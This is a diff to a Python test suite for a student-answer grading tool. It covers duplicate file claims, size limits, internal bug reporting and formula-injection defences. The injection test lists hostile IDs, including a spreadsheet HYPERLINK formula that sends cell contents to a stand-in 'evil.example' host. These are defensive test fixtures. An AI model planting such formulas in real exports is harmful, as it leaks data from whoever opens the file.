@@ -167,10 +167,10 @@ def test_the_file_named_after_the_student_wins_and_every_claim_is_reported(tmp_p
     save(answers, "0000-evil.json", evil.progress)
     _, rows = grade(tmp_path)
     assert rows["answers-passing-s4.json"]["score"] == str(load_set(PASSING).max_score)
-    assert "other files also claim student 's4' (0000-evil.json)" in \
+    assert "other files also claim student 's4' (0000-evil.json (" in \
         rows["answers-passing-s4.json"]["status"]
     lost = rows["0000-evil.json"]
-    assert lost["status"].startswith("error: ") and "answers-passing-s4.json, was graded" in \
+    assert lost["status"].startswith("error: ") and "answers-passing-s4.json, the name the tools give the student's file, was graded" in \
         lost["status"] and lost["score"] == "0"
 
 
@@ -183,14 +183,15 @@ def test_claims_with_no_file_named_after_the_student_grade_none(tmp_path: Path) 
     _, rows = grade(tmp_path)
     for name in ("a.json", "b.json"):
         assert "several files claim student 's5' (" in rows[name]["status"]
-        assert "keep the student's file as answers-passing-s5.json" in rows[name]["status"]
-    assert rows["S6.JSON"]["status"].startswith("ok")
-    assert rows["x.json"]["status"].startswith("error: ")
+        assert "keep it as answers-passing-s5.json" in rows[name]["status"]
+    # only the exact name the tools give wins a tie: S6.JSON does not
+    for name in ("S6.JSON", "x.json"):
+        assert rows[name]["status"].startswith("error: several files claim student 's6'")
 
 
 # -- 4. formula injection, long messages, BOM --------------------------------------------------
 HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "+s9", "-2+3",
-               "\tx", "\rs", " =1+1"]
+               " =1+1"]   # ids with a tab or CR are refused (see test_control_characters_…)
 
 
 def test_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
@@ -284,7 +285,9 @@ def test_a_huge_count_or_set_is_refused_at_once(tmp_path: Path,
     assert f"a set holds at most {MAX_EXERCISES}" in err and "split it" in err
     for command in (["sheets", "--class", str(tmp_path / "c.csv"), "--course", "C",
                      "--assignment", "A", "--out", str(tmp_path / "o")],
-                    ["grade", "--answers", str(tmp_path), "--out", str(tmp_path / "g.csv")]):
+                    ["grade", "--answers", str(tmp_path / "answers"), "--out",
+                     str(tmp_path / "g.csv")]):
+        (tmp_path / "answers").mkdir(exist_ok=True)
         (tmp_path / "c.csv").write_text("student_id\n1\n")
         assert run(command[0], "--set", str(huge), *command[1:]) == 2
         assert "count must be a whole number" in capsys.readouterr().err
@@ -493,7 +496,8 @@ def test_a_bug_in_maca_is_a_row_or_a_message_never_a_traceback(
 
     monkeypatch.setattr(grading, "check", broken)
     _, rows = grade(tmp_path)
-    assert "a bug in maca" in rows["b.json"]["status"] and rows["a.json"]["status"] == "ok"
+    assert "a bug in maca" in rows["b.json"]["status"] and "a bug" not in rows["a.json"]["status"]
+    assert rows["a.json"]["status"].startswith("ok")
     monkeypatch.setattr(grading, "grade_progress", broken)
     _, rows = grade(tmp_path)
     assert all("a bug in maca" in rows[n]["status"] for n in ("a.json", "b.json"))
